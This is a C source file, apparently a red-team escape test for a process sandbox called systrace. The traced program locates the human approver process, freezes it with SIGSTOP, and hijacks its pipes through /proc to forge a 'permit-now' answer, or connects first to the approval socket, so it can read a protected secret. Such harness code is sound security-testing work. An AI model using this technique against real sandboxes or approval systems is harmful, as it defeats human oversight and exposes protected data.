/* ask_forge.c: the traced program answers its own ask (red team 8).
 *
 * An approver (--ask-via exec:CMD) is a process of the user's, outside the tree, that talks
 * to systrace over two pipes: its stdin (the asks) and its stdout (the answers).  A process
 * of the same user may open another's /proc/PID/fd/N when it is dumpable -- an approver is
 * an ordinary program -- and an opened fd/N of a pipe is that pipe.  So a traced program
 * finds the approver, stops it (SIGSTOP: its uid may signal it), opens its stdin's pipe to
 * read the ask systrace sends about the secret (the id), and its stdout's pipe to write the
 * answer systrace reads as the approver's: permit.
 *
 *   ask_forge pipe SECRET NAME   NAME: a word of the approver's command line; natively (no
 *                                approver) the secret is read directly (the control)
 *   ask_forge unix SECRET PATH   --ask-via unix:PATH: connect first, as the approver (then
 *                                $ESC_MARKER is made: the real approver may come)
 */
#include "attack.h"
#include <dirent.h>
#include <sys/socket.h>
#include <sys/un.h>

static const char *secret;
static volatile int opened = -2, open_err;

static void *opener(void *unused) {
    (void)unused;
    int fd = open(secret, O_RDONLY);  /* asked: parked until answered */
    open_err = errno;
    opened = fd;
    return NULL;
}

/* The pid of a process (not this one, not systrace) whose command line has word; 0: none. */
static int find(const char *word) {
    DIR *d = opendir("/proc");
    struct dirent *e;
    int found = 0;
    while (d && (e = readdir(d)) && !found) {
        int pid = atoi(e->d_name);
        if (pid <= 0 || pid == getpid()) continue;
        char name[64], text[4096];
        snprintf(name, sizeof name, "/proc/%d/cmdline", pid);
        int fd = open(name, O_RDONLY);
        if (fd < 0) continue;
        ssize_t n = read(fd, text, sizeof text - 1);
        close(fd);
        for (ssize_t i = 0; i < n; i++) if (!text[i]) text[i] = ' ';
        /* (not systrace itself, whose --ask-via names the approver's command) */
        if (n > 0) { text[n] = 0; if (strstr(text, word) && !strstr(text, "--ask-via")) found = pid; }
    }
    if (d) closedir(d);
    return found;
}

/* The id of the next ask about the secret read from in (one JSON line per message). */
static long ask_id(int in) {
    static char buf[1 << 16];
    size_t have = 0;
    for (;;) {
        ssize_t n = read(in, buf + have, sizeof buf - 1 - have);
        if (n <= 0) return -1;
        have += (size_t)n;
        buf[have] = 0;
        char *line = buf, *end;
        while ((end = strchr(line, '\n'))) {
            *end = 0;
            char *id = strstr(line, "\"id\":");
            if (strstr(line, "\"type\":\"ask\"") && id && strstr(line, secret))
                return strtol(id + 5, NULL, 10);
            line = end + 1;
        }
        memmove(buf, line, strlen(line) + 1);
        have = strlen(buf);
    }
}

static void verdict(void) {
    if (opened >= 0 && is_secret_fd(opened)) escaped("read the secret (fd -> %s)", fd_name(opened));
    blocked("secret: %s", opened >= 0 ? "not the secret" : ename(open_err));
}

int main(int argc, char **argv) {
    if (argc != 4) usage("ask_forge pipe|unix SECRET NAME|PATH");
    secret = argv[2];
    pthread_t t;
    if (tracer_pid() <= 0) {  /* the control: nothing asks natively */
        opener(NULL);
        verdict();
    }
    int in = -1, out = -1, approver = 0;
    if (strcmp(argv[1], "pipe") == 0) {
        approver = find(argv[3]);
        if (!approver) blocked("no approver found");
        kill(approver, SIGSTOP);
        char name[64];
        snprintf(name, sizeof name, "/proc/%d/fd/0", approver);
        in = open(name, O_RDONLY);
        snprintf(name, sizeof name, "/proc/%d/fd/1", approver);
        out = open(name, O_WRONLY);
        if (in < 0 || out < 0) {
            kill(approver, SIGCONT);
            note("the approver's pipes: %s", ename(errno));
            opener(NULL);
            verdict();
        }
    } else {
        struct sockaddr_un sun = {.sun_family = AF_UNIX};
        snprintf(sun.sun_path, sizeof sun.sun_path, "%s", argv[3]);
        in = socket(AF_UNIX, SOCK_STREAM, 0);
        if (connect(in, (struct sockaddr *)&sun, sizeof sun) < 0) {
            note("connect: %s", ename(errno));
            opener(NULL);
            verdict();
        }
        out = in;
        const char *marker = getenv("ESC_MARKER");  /* (the test starts the approver now) */
        if (marker) close(open(marker, O_WRONLY | O_CREAT, 0600));
    }
    pthread_create(&t, NULL, opener, NULL);
    long id = ask_id(in);
    char answer[128];
    int n = snprintf(answer, sizeof answer, "{\"id\": %ld, \"answer\": \"permit-now\"}\n", id);
    if (id < 0 || write(out, answer, (size_t)n) != n) note("answer: %s", ename(errno));
    pthread_join(t, NULL);
    if (approver) kill(approver, SIGCONT);
    verdict();
}
